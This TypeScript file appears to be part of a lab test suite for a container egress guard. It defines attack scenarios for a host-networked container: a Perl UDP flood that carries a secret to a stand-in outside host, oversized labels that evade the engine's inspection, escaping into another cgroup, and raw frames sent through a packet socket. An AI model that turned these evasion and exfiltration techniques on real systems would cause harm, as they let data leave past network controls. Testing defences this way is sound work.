import { LabContainer, type ContainerOptions } from '../container.ts'
import { INET } from '../topology.ts'
import type { Attack, Played } from './attack.ts'
import { describeFrames } from './describe.ts'
import { frame } from './frame.ts'
import { datagram } from './packet.ts'
import type { Scene } from './scene.ts'
import { toInternet } from './uplink.ts'
import { writeFrames } from './watch.ts'

const FAR = '203.0.113.66'
const PORT = 9999
const CONFIG = `
allow: [{ cidr: 203.0.113.10/32, ports: [80/tcp] }]
guard: { hostNetwork: true }
resolver: { servers: [${INET.dns}] }
`
/** What one label holds: the engine tells of a container by one line that has them all. */
const LABEL_BYTES = 1_300_000

/** Datagrams from a program's own sockets, a hundred a second, each from a fresh port. */
const FLOOD = `
use Socket;
for (1 .. $ARGV[2]) {
    socket my $socket, PF_INET, SOCK_DGRAM, 0 or die "socket: $!";
    send $socket, pack('H*', $ARGV[1]), 0, pack_sockaddr_in(${PORT}, inet_aton($ARGV[0]));
    select undef, undef, undef, 0.01;
}
`
const PACKETS = 400

interface Seat {
  readonly name: string
  readonly words: string
  readonly shows: string
  readonly remains?: string
  readonly options?: ContainerOptions
  /** What it does in its shell before it floods. */
  readonly first?: string
}

const seated = ({ name, words, shows, remains, options = {}, first }: Seat): Attack => ({
  name,
  seat: 'container on the host’s network',
  words,
  shows,
  onSystemd: true,
  ...(remains === undefined ? {} : { remains }),
  async play(scene) {
    await scene.guard(CONFIG)
    const container = await onHostNetwork(scene, name, options)
    const far = await scene.farEnd()
    const flood = `perl -e '${FLOOD.replaceAll("'", `'\\''`)}' ${FAR} ${scene.secret.toString('hex')} ${PACKETS}`
    const { code, stderr } = await container.exec(
      ['sh', '-c', `${first === undefined ? '' : `${first}; `}${flood}`],
      {
        timeoutMs: 60_000,
      },
    )
    if (code !== 0 && stderr !== '') throw new Error(`flooding: ${stderr}`)
    const { count, first: frames } = await far.count()
    return { sent: PACKETS, arrived: count, details: describeFrames(frames) }
  },
})

async function onHostNetwork(scene: Scene, name: string, options: ContainerOptions): Promise<LabContainer> {
  const { docker } = scene.systemd
  const container = await LabContainer.start(docker, {
    ...options,
    network: 'host',
    name: `${name}-${scene.guarded}`,
  })
  scene.onEnd(() => container.stop())
  return container
}

const frames: Attack = {
  name: 'hostnet-frames',
  seat: 'container on the host’s network',
  words: 'whole frames, written to the uplink by a packet socket',
  shows: 'what a packet socket writes passes no table',
  onSystemd: true,
  remains: 'status lists it as host-network: drop NET_RAW',
  async play(scene): Promise<Played> {
    await scene.guard(CONFIG)
    const container = await onHostNetwork(scene, 'hostnet-frames', {
      binds: ['/run/engine/attack:/attack:ro'],
    })
    const far = await scene.farEnd()
    const packet = datagram({ src: '198.51.100.2', dst: FAR }, 4000, PORT, scene.secret)
    const lines = Array<Buffer>(20).fill(frame(await toInternet(scene.lab), packet))
    const name = await writeFrames(scene.folder, lines)
    const argv = ['perl', '/attack/wire.pl', 'send', 'eth0', `/attack/${name}`]
    const { code, stderr } = await container.exec(argv)
    if (code !== 0) throw new Error(`sending frames: ${stderr}`)
    const { count, first } = await far.count()
    return { sent: lines.length, arrived: count, details: describeFrames(first) }
  },
}

export const HOST_NETWORK: readonly Attack[] = [
  seated({
    name: 'hostnet-flood',
    words: 'floods from its first instruction',
    shows: 'a container on the host’s network reaches what is forbidden',
  }),
  seated({
    name: 'hostnet-labels',
    words: 'bears labels of more than a megabyte, by which the engine’s word of it is too long to be read',
    shows: 'a container of which the engine’s word was not read is not held',
    options: { labels: { ballast: 'x'.repeat(LABEL_BYTES) } },
  }),
  seated({
    name: 'hostnet-cgroup',
    words: 'has the control groups mounted writable, and leaves its own',
    shows: 'it is known by its group, and it is in another',
    remains: 'status lists it as host-network: take the mount away',
    options: { binds: ['/sys/fs/cgroup:/sys/fs/cgroup:rw'] },
    first: 'mkdir -p /sys/fs/cgroup/elsewhere && echo $$ >/sys/fs/cgroup/elsewhere/cgroup.procs',
  }),
  frames,
]
